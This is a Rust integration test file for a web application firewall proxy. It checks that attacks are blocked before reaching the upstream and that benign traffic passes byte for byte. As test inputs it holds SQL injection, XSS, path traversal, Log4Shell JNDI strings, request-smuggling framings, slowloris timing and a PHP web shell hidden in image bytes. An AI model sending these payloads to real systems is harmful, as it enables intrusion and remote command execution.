#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]
//! Inspection end to end: the real proxy on loopback in front of a recording upstream.
//! Attacks get 403 and the upstream receives nothing at all; benign requests arrive as sent
//! and their responses come back byte for byte.

mod common;

use common::*;

const BLOCK: &str = "rules: {rules}\nmode: block\n";

/// Asserts a 403 with a JSON body naming the request id, nothing upstream, and a `blocked`
/// alert naming `rule` at `target`.
async fn assert_blocked(p: &Proxy, up: &Upstream, r: &Response, rule: &str, target: &str) {
    assert_eq!(r.status, 403, "{}", String::from_utf8_lossy(&r.raw));
    let body = r.json();
    let id = body["request_id"].as_str().unwrap().to_string();
    assert_eq!(body["error"], "forbidden");
    assert_eq!(
        body.as_object().unwrap().len(),
        2,
        "no rule internals: {body}"
    );
    assert_eq!(up.bytes(), 0, "the upstream received bytes");
    let a = p.alert_for(&id).await;
    assert_eq!(a["action"], "blocked");
    let m = a["matches"]
        .as_array()
        .unwrap()
        .iter()
        .find(|m| m["rule"] == rule)
        .unwrap_or_else(|| panic!("no match of {rule} in {a}"));
    assert!(
        m["target"].as_str().unwrap().starts_with(target),
        "target {} for {rule}, wanted {target}",
        m["target"]
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attacks_are_blocked_before_the_upstream_sees_a_byte() {
    let cases: Vec<(&str, Vec<u8>, &str, &str)> = vec![
        (
            "query",
            b"GET /search?q=1%20UNION%20ALL%20SELECT%20password HTTP/1.1\r\nHost: app.test\r\n\r\n".to_vec(),
            "test-sqli",
            "ARGS:q",
        ),
        (
            "header",
            b"GET / HTTP/1.1\r\nHost: app.test\r\nX-Test: <script>alert(1)</script>\r\n\r\n".to_vec(),
            "test-xss",
            "HEADERS:X-Test",
        ),
        (
            "cookie",
            b"GET / HTTP/1.1\r\nHost: app.test\r\nCookie: a=1; sid=1 union select 2\r\n\r\n".to_vec(),
            "test-sqli",
            "COOKIES:sid",
        ),
        (
            "urlencoded",
            form_request(b"user=bob&q=1+union+select+2"),
            "test-sqli",
            "BODY:form.q",
        ),
        (
            "json",
            post_request("application/json", br#"{"user":{"name":"x","bio":"<script>alert(1)</script>"}}"#),
            "test-xss",
            "BODY:json",
        ),
        (
            "xml",
            post_request("application/xml", b"<order><note>1 union select card from cards</note></order>"),
            "test-sqli",
            "BODY:xml",
        ),
        (
            "multipart",
            post_request(
                "multipart/form-data; boundary=XyZ",
                b"--XyZ\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nhello\r\n--XyZ\r\nContent-Disposition: form-data; name=\"comment\"\r\n\r\n<script>x</script>\r\n--XyZ--\r\n",
            ),
            "test-xss",
            "BODY:multipart",
        ),
    ];
    for (name, raw, rule, target) in cases {
        let up = Upstream::start().await;
        let p = Proxy::start(up.addr, &with_rules(BLOCK)).await;
        let r = send_raw(p.addr, &raw).await.unwrap();
        eprintln!("case {name}");
        assert_blocked(&p, &up, &r, rule, target).await;
        // The connection-level check: nothing was ever sent upstream, not even a header.
        assert_eq!(up.requests().len(), 0, "{name}");
    }
}

fn post_request(content_type: &str, body: &[u8]) -> Vec<u8> {
    let mut r = format!(
        "POST /submit HTTP/1.1\r\nHost: app.test\r\nContent-Type: {content_type}\r\nContent-Length: {}\r\n\r\n",
        body.len()
    )
    .into_bytes();
    r.extend_from_slice(body);
    r
}

fn form_request(body: &[u8]) -> Vec<u8> {
    post_request("application/x-www-form-urlencoded", body)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attacks_in_large_bodies_are_blocked_on_every_path() {
    // Bodies on both sides of Pingora's 64 KiB replay buffer, Content-Length and chunked:
    // the attack sits at the very end, so only a fully inspected body finds it.
    let up = Upstream::start().await;
    let p = Proxy::start(up.addr, &with_rules(BLOCK)).await;
    for size in [1024usize, 65535, 65537, 1 << 20] {
        let tail = b"&q=1+union+select+2";
        let mut body = b"a=".to_vec();
        body.extend(filler(size - 2 - tail.len(), size as u64));
        body.extend_from_slice(tail);
        assert_eq!(body.len(), size);
        let r = post(p.addr, "/f", "application/x-www-form-urlencoded", &body)
            .await
            .unwrap();
        assert_blocked(&p, &up, &r, "test-sqli", "BODY:form.q").await;
        let r = post_chunked(
            p.addr,
            "/f",
            "application/x-www-form-urlencoded",
            &body,
            7000,
        )
        .await
        .unwrap();
        assert_blocked(&p, &up, &r, "test-sqli", "BODY:form.q").await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn benign_requests_pass_through_byte_for_byte() {
    let up = Upstream::start().await;
    let p = Proxy::start(up.addr, &with_rules(BLOCK)).await;

    // GET: the response is exactly the upstream's bytes.
    let r = get(p.addr, "/page?x=1&y=hello", &[("X-Custom", "Keep Me")])
        .await
        .unwrap();
    let rec = up.last();
    assert_eq!(r.status, 200);
    assert_same_response(&r.raw, &rec.response, "GET");
    assert!(
        rec.head.starts_with("GET /page?x=1&y=hello HTTP/1.1\r\n"),
        "{}",
        rec.head
    );
    assert_eq!(rec.header("X-Custom"), ["Keep Me"]);
    assert_eq!(rec.header("X-Forwarded-For"), ["127.0.0.1"]);
    assert_eq!(rec.header("X-Request-Id")[0].len(), 32);

    // Bodies on both sides of 64 KiB and at the 1 MiB limit, both framings.
    let mut n = 1;
    for size in [1usize, 1024, 65535, 65536, 65537, 300_000, 1 << 20] {
        let body = filler(size, size as u64);
        for chunked in [false, true] {
            let r = if chunked {
                post_chunked(p.addr, "/upload", "application/octet-stream", &body, 16_000).await
            } else {
                post(p.addr, "/upload", "application/octet-stream", &body).await
            }
            .unwrap();
            n += 1;
            let reqs = up.wait_requests(n).await;
            let rec = reqs.last().unwrap();
            assert_eq!(r.status, 200, "size {size} chunked {chunked}");
            assert_eq!(rec.body.len(), size, "size {size} chunked {chunked}");
            assert!(
                rec.body == body,
                "body altered, size {size} chunked {chunked}"
            );
            assert_same_response(
                &r.raw,
                &rec.response,
                &format!("size {size} chunked {chunked}"),
            );
            if chunked {
                assert_eq!(rec.header("Transfer-Encoding"), ["chunked"]);
            } else {
                assert_eq!(rec.header("Content-Length"), [size.to_string()]);
            }
        }
    }
    // A large response streams back unchanged.
    let r = get(p.addr, "/big-response", &[]).await.unwrap();
    assert_same_response(&r.raw, &up.last().response, "big response");
    assert!(p.alerts().is_empty(), "{:?}", p.alerts());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn keep_alive_and_expect_continue() {
    use tokio::io::AsyncWriteExt;
    let up = Upstream::start().await;
    let p = Proxy::start(up.addr, &with_rules(BLOCK)).await;
    let mut s = tokio::net::TcpStream::connect(p.addr).await.unwrap();
    let mut buf = Vec::new();
    for i in 0..5 {
        let body = filler(100_000 * (i % 2) + 10, i as u64);
        let head = format!(
            "POST /k HTTP/1.1\r\nHost: app.test\r\nContent-Length: {}\r\nExpect: 100-continue\r\n\r\n",
            body.len()
        );
        s.write_all(head.as_bytes()).await.unwrap();
        let cont = read_response(&mut s, &mut buf).await.unwrap();
        assert_eq!(cont.status, 100, "the proxy answers 100 Continue itself");
        s.write_all(&body).await.unwrap();
        let r = read_response(&mut s, &mut buf).await.unwrap();
        assert_eq!(r.status, 200);
        let rec = up.wait_requests(i + 1).await;
        let rec = rec.last().unwrap();
        assert!(rec.body == body);
        assert!(rec.header("Expect").is_empty(), "Expect is not forwarded");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn http2_cleartext_and_tls() {
    let up = Upstream::start().await;
    let tls = format!(
        "rules: {{rules}}\ntls:\n  cert: {}\n  key: {}\n",
        tls_dir().join("cert.pem").display(),
        tls_dir().join("key.pem").display()
    );
    let p = Proxy::start(up.addr, &with_rules(BLOCK)).await;
    let ps = Proxy::start(up.addr, &with_rules(&tls)).await;

    // h2c, small and large bodies (the large one takes the subrequest path).
    for size in [0usize, 2000, 65537, 600_000] {
        let body = filler(size, 7);
        let tcp = tokio::net::TcpStream::connect(p.addr).await.unwrap();
        let cl = size.to_string();
        let headers: Vec<(&str, &str)> = if size > 0 {
            vec![("content-length", cl.as_str())]
        } else {
            vec![]
        };
        let r = h2_request(
            tcp,
            if size > 0 { "POST" } else { "GET" },
            &format!("http://app.test/h2?size={size}"),
            &headers,
            (size > 0).then(|| body.clone()),
        )
        .await
        .unwrap();
        assert_eq!(r.status, 200, "h2c size {size}");
        let rec = up.last();
        assert!(rec.body == body, "h2c size {size}");
        assert_eq!(rec.header("Host"), ["app.test"], "h2c size {size}");
        let upstream_body = &rec.response[rec.response.len() - r.body.len()..];
        assert_eq!(r.body, upstream_body);
    }
    // h2c attack.
    let before = up.bytes();
    let tcp = tokio::net::TcpStream::connect(p.addr).await.unwrap();
    let r = h2_request(
        tcp,
        "POST",
        "http://app.test/x",
        &[("content-type", "application/json")],
        Some(br#"{"a":"<script>1</script>"}"#.to_vec()),
    )
    .await
    .unwrap();
    assert_eq!(r.status, 403);
    assert_eq!(up.bytes(), before);

    // TLS with ALPN h2 and http/1.1.
    let io = tls_connect(ps.addr, &[b"h2"]).await;
    assert_eq!(io.get_ref().1.alpn_protocol(), Some(&b"h2"[..]));
    let r = h2_request(
        io,
        "POST",
        "https://localhost/tls",
        &[],
        Some(filler(70_000, 3)),
    )
    .await
    .unwrap();
    assert_eq!(r.status, 200);
    assert_eq!(up.last().body, filler(70_000, 3));
    let io = tls_connect(ps.addr, &[b"http/1.1"]).await;
    let mut io = io;
    use tokio::io::AsyncWriteExt;
    io.write_all(b"GET /tls1?q=1%20union%20select%202 HTTP/1.1\r\nHost: localhost\r\n\r\n")
        .await
        .unwrap();
    let mut buf = Vec::new();
    let r = read_response(&mut io, &mut buf).await.unwrap();
    assert_eq!(r.status, 403);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn detect_mode_forwards_unchanged_and_alerts() {
    let up = Upstream::start().await;
    let p = Proxy::start(up.addr, &with_rules("rules: {rules}\nmode: detect\n")).await;
    let body = br#"{"comment":"<script>alert(1)</script>"}"#;
    let r = post(
        p.addr,
        "/c?id=1%20union%20select%202",
        "application/json",
        body,
    )
    .await
    .unwrap();
    assert_eq!(r.status, 200);
    let rec = up.last();
    assert_eq!(rec.body, body);
    assert!(rec
        .head
        .starts_with("POST /c?id=1%20union%20select%202 HTTP/1.1"));
    assert_same_response(&r.raw, &rec.response, "detect");
    let id = rec.header("X-Request-Id")[0].clone();
    let a = p.alert_for(&id).await;
    assert_eq!(a["action"], "detected");
    assert_eq!(a["mode"], "detect");
    assert_eq!(a["score"], 10);
    let rules: Vec<&str> = a["matches"]
        .as_array()
        .unwrap()
        .iter()
        .map(|m| m["rule"].as_str().unwrap())
        .collect();
    assert_eq!(rules, ["test-sqli", "test-xss"]);
    assert_eq!(a["workload"]["pod"], "web-7d9c");
    assert_eq!(a["workload"]["namespace"], "shop");
    assert_eq!(
        a["client"].as_str().unwrap().split(':').next(),
        Some("127.0.0.1")
    );
    assert_eq!(a["host"], "app.test");
    assert_eq!(a["method"], "POST");
    assert!(a["ruleset_version"].as_str().unwrap().starts_with("dir-"));
    assert_eq!(a["body"]["inspected"], body.len());
    assert_eq!(
        p.metric_reaches("palisade_requests_total{action=\"detected\"}", 1.0)
            .await,
        1.0
    );
    assert_eq!(
        p.metric("palisade_rule_matches_total{rule=\"test-xss\",category=\"xss\"}")
            .await,
        1.0
    );
    // Under the threshold: no alert.
    let r = get(p.addr, "/?q=suspicious-but-ok", &[]).await.unwrap();
    assert_eq!(r.status, 200);
    let id = up.last().header("X-Request-Id")[0].clone();
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    assert!(p.alerts().iter().all(|a| a["request_id"] != id.as_str()));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn over_limit_reject() {
    let up = Upstream::start().await;
    let p = Proxy::start(
        up.addr,
        &with_rules("rules: {rules}\nbody:\n  inspect_limit: 100000\n  over_limit: reject\n"),
    )
    .await;
    let body = filler(100_001, 1);
    let r = post(p.addr, "/u", "text/plain", &body).await.unwrap();
    assert_eq!(r.status, 413);
    assert_eq!(r.json()["error"], "body-too-large");
    let r = post_chunked(p.addr, "/u", "text/plain", &body, 30_000)
        .await
        .unwrap();
    assert_eq!(r.status, 413);
    assert_eq!(up.bytes(), 0);
    // At the limit exactly: forwarded.
    let r = post(p.addr, "/u", "text/plain", &body[..100_000])
        .await
        .unwrap();
    assert_eq!(r.status, 200);
    assert_eq!(up.last().body.len(), 100_000);
    assert_eq!(
        p.metric("palisade_protocol_rejections_total{reason=\"body-too-large\"}")
            .await,
        2.0
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn over_limit_partial() {
    // A limit under the replay buffer (the prefix is replayed by Pingora) and one over it
    // (the prefix is put in front of the streamed rest).
    for limit in [1000usize, 100_000] {
        let up = Upstream::start().await;
        let p = Proxy::start(
            up.addr,
            &with_rules(&format!(
                "rules: {{rules}}\nbody:\n  inspect_limit: {limit}\n  over_limit: partial\n"
            )),
        )
        .await;
        let mut n = 0;
        for chunked in [false, true] {
            // Benign, 3× the limit: forwarded whole.
            let body = filler(3 * limit + 17, limit as u64);
            let r = if chunked {
                post_chunked(p.addr, "/u", "text/plain", &body, 4096).await
            } else {
                post(p.addr, "/u", "text/plain", &body).await
            }
            .unwrap();
            n += 1;
            assert_eq!(r.status, 200, "limit {limit} chunked {chunked}");
            let rec = up.wait_requests(n).await.last().cloned().unwrap();
            assert!(
                rec.body == body,
                "limit {limit} chunked {chunked}: body altered"
            );
            // An attack inside the inspected prefix: blocked, nothing forwarded.
            let before = up.bytes();
            let mut bad = b"palisade-attack-marker ".to_vec();
            bad.extend(filler(3 * limit, 9));
            let r = if chunked {
                post_chunked(p.addr, "/u", "text/plain", &bad, 4096).await
            } else {
                post(p.addr, "/u", "text/plain", &bad).await
            }
            .unwrap();
            assert_eq!(r.status, 403, "limit {limit} chunked {chunked}");
            assert_eq!(up.bytes(), before);
            let a = p.alert_for(r.json()["request_id"].as_str().unwrap()).await;
            assert_eq!(a["body"]["partial"], true);
            assert_eq!(a["body"]["inspected"], limit);
        }
        assert_eq!(p.metric("palisade_body_partial_total").await, 4.0);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn protocol_hardening() {
    let up = Upstream::start().await;
    let p = Proxy::start(
        up.addr,
        &with_rules(
            "rules: {rules}\nlimits:\n  max_uri_bytes: 200\n  max_header_count: 20\n  max_header_bytes: 2000\n  max_args: 10\n",
        ),
    )
    .await;
    let many_headers: String = (0..21).map(|i| format!("X-H{i}: v\r\n")).collect();
    let many_args: String = (0..11)
        .map(|i| format!("a{i}=1"))
        .collect::<Vec<_>>()
        .join("&");
    let body_args: String = (0..11)
        .map(|i| format!("b{i}=1"))
        .collect::<Vec<_>>()
        .join("&");
    let cases: Vec<(&str, Vec<u8>, u16)> = vec![
        (
            "CL with TE",
            b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n".to_vec(),
            400,
        ),
        (
            "repeated CL",
            b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nContent-Length: 5\r\n\r\nhello".to_vec(),
            400,
        ),
        (
            "CL list",
            b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 5, 5\r\n\r\nhello".to_vec(),
            400,
        ),
        (
            "TE not chunked",
            b"POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n".to_vec(),
            400,
        ),
        // (Pingora refuses this one itself, before the proxy's own framing check counts it.)
        (
            "TE on HTTP/1.0",
            b"POST / HTTP/1.0\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n".to_vec(),
            400,
        ),
        (
            "bad chunk size",
            b"POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nhello\r\n0\r\n\r\n".to_vec(),
            400,
        ),
        (
            "chunk size overflow",
            b"POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffffffff\r\nhello\r\n0\r\n\r\n".to_vec(),
            400,
        ),
        (
            "uri too long",
            format!("GET /{} HTTP/1.1\r\nHost: a\r\n\r\n", "a".repeat(250)).into_bytes(),
            414,
        ),
        (
            "too many headers",
            format!("GET / HTTP/1.1\r\nHost: a\r\n{many_headers}\r\n").into_bytes(),
            431,
        ),
        (
            "headers too large",
            format!("GET / HTTP/1.1\r\nHost: a\r\nX-Big: {}\r\n\r\n", "b".repeat(2100)).into_bytes(),
            431,
        ),
        (
            "too many query args",
            format!("GET /?{many_args} HTTP/1.1\r\nHost: a\r\n\r\n").into_bytes(),
            400,
        ),
        (
            "too many body args",
            format!(
                "POST / HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n{body_args}",
                body_args.len()
            )
            .into_bytes(),
            400,
        ),
    ];
    for (name, raw, status) in cases {
        let r = send_raw(p.addr, &raw).await;
        match r {
            Ok(r) => assert_eq!(
                r.status,
                status,
                "{name}: {}",
                String::from_utf8_lossy(&r.raw)
            ),
            Err(e) => panic!("{name}: no response ({e})"),
        }
        assert_eq!(up.bytes(), 0, "{name}: the upstream received bytes");
    }
    // Just under each limit: forwarded.
    let ok_headers: String = (0..18).map(|i| format!("X-H{i}: v\r\n")).collect();
    let ok_args: String = (0..10)
        .map(|i| format!("a{i}=1"))
        .collect::<Vec<_>>()
        .join("&");
    let r = send_raw(
        p.addr,
        format!("GET /?{ok_args} HTTP/1.1\r\nHost: a\r\nConnection: close\r\n{ok_headers}\r\n")
            .as_bytes(),
    )
    .await
    .unwrap();
    assert_eq!(r.status, 200);
    let metrics = p.metrics().await;
    assert!(
        metrics.contains("palisade_protocol_rejections_total{reason=\"ambiguous-framing\"} 4"),
        "{metrics}"
    );
    assert!(
        metrics.contains("palisade_protocol_rejections_total{reason=\"bad-body\"} 2"),
        "{metrics}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn slow_clients_are_cut_off() {
    use std::time::{Duration, Instant};
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let up = Upstream::start().await;
    let p = Proxy::start(
        up.addr,
        &with_rules("rules: {rules}\ntimeouts:\n  header_ms: 1000\n  body_ms: 1000\n"),
    )
    .await;

    // Slowloris: a header trickling one byte every 100 ms never completes in time.
    let mut s = tokio::net::TcpStream::connect(p.addr).await.unwrap();
    let start = Instant::now();
    s.write_all(b"GET / HTTP/1.1\r\nHost: a\r\n").await.unwrap();
    let mut closed = false;
    for b in b"X-Slow: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa".iter() {
        tokio::time::sleep(Duration::from_millis(100)).await;
        if s.write_all(&[*b]).await.is_err() {
            closed = true;
            break;
        }
        let mut tmp = [0u8; 64];
        if let Ok(Ok(0)) = tokio::time::timeout(Duration::from_millis(1), s.read(&mut tmp)).await {
            closed = true;
            break;
        }
    }
    assert!(
        closed,
        "the slow header was still accepted after {:?}",
        start.elapsed()
    );
    assert!(
        start.elapsed() < Duration::from_secs(9),
        "cut after {:?}",
        start.elapsed()
    );

    // A header with a silent pause also ends at the deadline.
    let mut s = tokio::net::TcpStream::connect(p.addr).await.unwrap();
    s.write_all(b"GET / HTTP/1.1\r\nHost: a\r\n").await.unwrap();
    let mut tmp = [0u8; 64];
    let n = tokio::time::timeout(PATIENCE, s.read(&mut tmp))
        .await
        .unwrap()
        .unwrap_or(0);
    assert_eq!(n, 0, "closed without a response");

    // Slow body: 408, nothing forwarded.
    let mut s = tokio::net::TcpStream::connect(p.addr).await.unwrap();
    s.write_all(b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 100\r\n\r\nhello")
        .await
        .unwrap();
    let mut buf = Vec::new();
    let r = tokio::time::timeout(PATIENCE, read_response(&mut s, &mut buf))
        .await
        .unwrap()
        .unwrap();
    assert_eq!(r.status, 408);
    assert_eq!(up.bytes(), 0);

    // A normal request on a fresh connection, and keep-alive requests separated by pauses
    // longer than the header deadline, still work (the deadline starts with the first byte).
    let mut s = tokio::net::TcpStream::connect(p.addr).await.unwrap();
    let mut buf = Vec::new();
    for _ in 0..2 {
        tokio::time::sleep(Duration::from_millis(1300)).await;
        s.write_all(b"GET /ok HTTP/1.1\r\nHost: a\r\n\r\n")
            .await
            .unwrap();
        let r = read_response(&mut s, &mut buf).await.unwrap();
        assert_eq!(r.status, 200);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn routes_override_mode_and_paranoia() {
    let up = Upstream::start().await;
    let p = Proxy::start(
        up.addr,
        &with_rules(
            "rules: {rules}\nmode: block\nroutes:\n  - path_prefix: /legacy\n    mode: detect\n  - host: \"*.internal.test\"\n    mode: \"off\"\n  - path_prefix: /search\n    exclusions:\n      - rules: [test-sqli]\n",
        ),
    )
    .await;
    let attack = "q=1%20union%20select%202";
    assert_eq!(
        get(p.addr, &format!("/?{attack}"), &[])
            .await
            .unwrap()
            .status,
        403
    );
    assert_eq!(
        get(p.addr, &format!("/legacy/x?{attack}"), &[])
            .await
            .unwrap()
            .status,
        200
    );
    assert_eq!(
        get(p.addr, &format!("/search?{attack}"), &[])
            .await
            .unwrap()
            .status,
        200
    );
    assert_eq!(
        get(p.addr, "/search?q=%3Cscript%3E", &[])
            .await
            .unwrap()
            .status,
        403
    );
    let r = send_raw(
        p.addr,
        format!("GET /?{attack} HTTP/1.1\r\nHost: api.internal.test\r\nConnection: close\r\n\r\n")
            .as_bytes(),
    )
    .await
    .unwrap();
    assert_eq!(r.status, 200);
    assert_eq!(
        p.metric_reaches("palisade_requests_total{action=\"off\"}", 1.0)
            .await,
        1.0
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn forwarded_headers() {
    let up = Upstream::start().await;
    let p = Proxy::start(up.addr, &with_rules("rules: {rules}\n")).await;
    get(
        p.addr,
        "/",
        &[("X-Forwarded-For", "10.0.0.1"), ("X-Request-Id", "abc-123")],
    )
    .await
    .unwrap();
    let rec = up.last();
    assert_eq!(rec.header("X-Forwarded-For"), ["10.0.0.1, 127.0.0.1"]);
    assert_eq!(rec.header("X-Request-Id"), ["abc-123"]);
    let p2 = Proxy::start(
        up.addr,
        &with_rules("rules: {rules}\nforward:\n  x_forwarded_for: replace\n  request_id: generate\n  request_id_header: X-Trace\n"),
    )
    .await;
    get(
        p2.addr,
        "/",
        &[("X-Forwarded-For", "10.0.0.1"), ("X-Trace", "abc")],
    )
    .await
    .unwrap();
    let rec = up.last();
    assert_eq!(rec.header("X-Forwarded-For"), ["127.0.0.1"]);
    assert_ne!(rec.header("X-Trace"), ["abc"]);
    // A blocked request's 403 carries the id the client sent (preserve mode).
    let r = get(p.addr, "/?q=%3Cscript%3E", &[("X-Request-Id", "trace-77")])
        .await
        .unwrap();
    assert_eq!(r.json()["request_id"], "trace-77");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn builtin_rules_classic_payloads() {
    let up = Upstream::start().await;
    let p = Proxy::start(up.addr, "mode: block\n").await;
    let cases = [
        ("sqli in query", "/items?id=%27%20OR%201%3D1--"),
        (
            "xss in query",
            "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        ),
        ("path traversal", "/download?file=..%2F..%2Fetc%2Fpasswd"),
        ("log4shell", "/?x=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D"),
    ];
    let mut missed = Vec::new();
    for (name, target) in cases {
        let r = get(p.addr, target, &[("User-Agent", "Mozilla/5.0")])
            .await
            .unwrap();
        if r.status != 403 {
            missed.push(name);
        }
    }
    let r = get(p.addr, "/", &[("User-Agent", "${jndi:ldap://x/a}")])
        .await
        .unwrap();
    if r.status != 403 {
        missed.push("log4shell in User-Agent");
    }
    assert!(missed.is_empty(), "built-in rules let through: {missed:?}");
    assert_eq!(up.bytes(), 0);
    // And ordinary traffic passes.
    let r = get(
        p.addr,
        "/products?page=2&sort=price",
        &[("User-Agent", "Mozilla/5.0")],
    )
    .await
    .unwrap();
    assert_eq!(r.status, 200);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn builtin_rules_pass_binary_uploads_and_block_hidden_shells() {
    let up = Upstream::start().await;
    let p = Proxy::start(up.addr, "mode: block\n").await;
    let mut n = 0;
    // Photos, archives and model files, on both sides of 64 KiB, as the body and as a form
    // file, reach the application byte for byte.
    for (size, seed) in [(65535usize, 1u64), (65537, 2), (300_000, 3), (1_000_000, 4)] {
        let bytes = random_bytes(size, seed);
        let mut form = b"--Xb0undary\r\nContent-Disposition: form-data; name=\"photo\"; \
            filename=\"IMG_0001.JPG\"\r\nContent-Type: image/jpeg\r\n\r\n"
            .to_vec();
        form.extend_from_slice(&bytes);
        form.extend_from_slice(b"\r\n--Xb0undary--\r\n");
        for (ct, body) in [
            ("image/jpeg", &bytes),
            ("application/octet-stream", &bytes),
            ("multipart/form-data; boundary=Xb0undary", &form),
        ] {
            let r = post(p.addr, "/upload", ct, body).await.unwrap();
            assert_eq!(r.status, 200, "{ct}, {size} bytes: {:?}", p.alerts());
            n += 1;
            let reqs = up.wait_requests(n).await;
            assert!(reqs.last().unwrap().body == *body, "{ct}, {size} bytes");
        }
    }
    assert!(p.alerts().is_empty(), "{:?}", p.alerts());
    // A web shell hidden in an image comment, past the first 64 KiB of the body: blocked,
    // and the application sees nothing of it.
    let before = up.bytes();
    let mut shell = random_bytes(100_000, 5);
    shell.extend_from_slice(b"\xff\xfe\x00\x2c<?php system($_GET['cmd']); ?>\x00");
    shell.extend(random_bytes(10_000, 6));
    let r = post(p.addr, "/avatar", "image/jpeg", &shell).await.unwrap();
    assert_eq!(r.status, 403);
    assert_eq!(up.bytes(), before);
    let id = r.json()["request_id"].as_str().unwrap().to_string();
    let alert = p.alert_for(&id).await;
    assert_eq!(alert["matches"][0]["rule"], "php-101", "{alert}");
    assert_eq!(alert["matches"][0]["target"], "FILES_CONTENT", "{alert}");
}

fn gzip(data: &[u8]) -> Vec<u8> {
    use std::io::Write as _;
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

fn deflate(data: &[u8]) -> Vec<u8> {
    use std::io::Write as _;
    let mut e = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

/// A POST of `body` as sent, with `Content-Encoding: coding`.
fn encoded_post(content_type: &str, coding: &str, body: &[u8], chunked: bool) -> Vec<u8> {
    let framing = if chunked {
        "Transfer-Encoding: chunked".to_string()
    } else {
        format!("Content-Length: {}", body.len())
    };
    let mut r = format!(
        "POST /v1/ingest HTTP/1.1\r\nHost: app.test\r\nConnection: close\r\nContent-Type: {content_type}\r\nContent-Encoding: {coding}\r\n{framing}\r\n\r\n"
    )
    .into_bytes();
    if chunked {
        for c in body.chunks(9000) {
            r.extend_from_slice(format!("{:x}\r\n", c.len()).as_bytes());
            r.extend_from_slice(c);
            r.extend_from_slice(b"\r\n");
        }
        r.extend_from_slice(b"0\r\n\r\n");
    } else {
        r.extend_from_slice(body);
    }
    r
}

/// A benign JSON document of about `n` bytes (log lines of about 1 KB, so that even 400 KB
/// stays under the argument limit), with `last` as the final value.
fn json_records(n: usize, last: &str) -> Vec<u8> {
    let mut s = String::from("{\"records\":[");
    let mut i = 0;
    while s.len() < n {
        let line_start = s.len();
        s.push('"');
        while s.len() - line_start < 1000 {
            s.push_str(&format!("request {i} served in {} ms; ", i % 97));
            i += 1;
        }
        s.push_str("\",");
    }
    s.push_str(&format!("{}]}}", serde_json::to_string(last).unwrap()));
    s.into_bytes()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn compressed_bodies_are_judged_decoded_and_forwarded_as_sent() {
    let up = Upstream::start().await;
    let p = Proxy::start(up.addr, "mode: block\n").await;
    let mut forwarded = 0;
    // Benign compressed bodies, decoded on both sides of 64 KiB: forwarded byte for byte,
    // still compressed, with their Content-Encoding.
    for size in [2_000usize, 70_000, 400_000] {
        let plain = json_records(size, "all good");
        for (coding, body) in [("gzip", gzip(&plain)), ("deflate", deflate(&plain))] {
            for chunked in [false, true] {
                let r = send_raw(
                    p.addr,
                    &encoded_post("application/json", coding, &body, chunked),
                )
                .await
                .unwrap();
                assert_eq!(
                    r.status,
                    200,
                    "{coding} {size} chunked {chunked}: {}",
                    String::from_utf8_lossy(&r.raw)
                );
                forwarded += 1;
                let reqs = up.wait_requests(forwarded).await;
                let rec = reqs.last().unwrap();
                assert!(rec.body == body, "{coding} {size}: body altered");
                assert_eq!(rec.header("Content-Encoding"), [coding]);
            }
        }
    }
    assert!(p.alerts().is_empty(), "{:?}", p.alerts());

    // The same documents with an attack as their last value: found once decoded, past the
    // first 64 KiB, and nothing reaches the upstream.
    let before = up.bytes();
    for size in [2_000usize, 70_000, 400_000] {
        let plain = json_records(size, "1' UNION SELECT username, password FROM users--");
        for (coding, body) in [("gzip", gzip(&plain)), ("deflate", deflate(&plain))] {
            let r = send_raw(
                p.addr,
                &encoded_post("application/json", coding, &body, size > 50_000),
            )
            .await
            .unwrap();
            assert_eq!(r.status, 403, "{coding} {size}");
            let id = r.json()["request_id"].as_str().unwrap().to_string();
            let a = p.alert_for(&id).await;
            let hit = a["matches"].as_array().unwrap().iter().any(|m| {
                m["category"] == "sqli"
                    && m["target"]
                        .as_str()
                        .unwrap()
                        .starts_with("BODY:json.records[")
            });
            assert!(hit, "{coding} {size}: {a}");
        }
    }
    // Hidden in a second gzip member (Go's and Node's readers read it).
